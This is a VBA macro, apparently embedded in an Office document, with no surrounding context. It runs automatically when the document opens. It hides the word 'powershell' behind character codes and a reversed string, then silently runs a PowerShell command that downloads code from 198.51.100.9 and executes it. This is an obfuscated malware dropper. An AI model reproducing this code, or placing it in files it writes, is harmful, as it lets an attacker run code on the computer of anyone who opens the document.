Private Sub Document_Open()
    Dim a As String, b As String
    a = Chr(112) & Chr(111) & Chr(119) & Chr(101) & Chr(114) & "sh" & StrReverse("lle")
    b = a & " -c " & Replace("IxxEX (iwr hxxttp://198.51.100.9/p)", "xx", "")
    Shell b, 0
End Sub
